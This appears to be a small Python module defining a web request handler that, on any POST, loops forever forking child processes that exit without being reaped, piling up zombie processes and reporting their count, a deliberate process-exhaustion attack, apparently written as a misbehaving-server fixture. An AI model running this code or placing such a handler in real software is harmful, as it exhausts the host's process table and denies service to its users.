"""Zombies whose parent lives and does not care: whoever asks becomes one more that makes them."""

import os
import time

from tells import tell


def answer(method, path, headers, body):
    if method != "POST":
        return None
    count = 0
    while True:
        try:
            if os.fork() == 0:
                os._exit(0)
            count += 1
        except OSError:
            if count:
                tell(zombies=count)
            count = 0
            time.sleep(0.001)
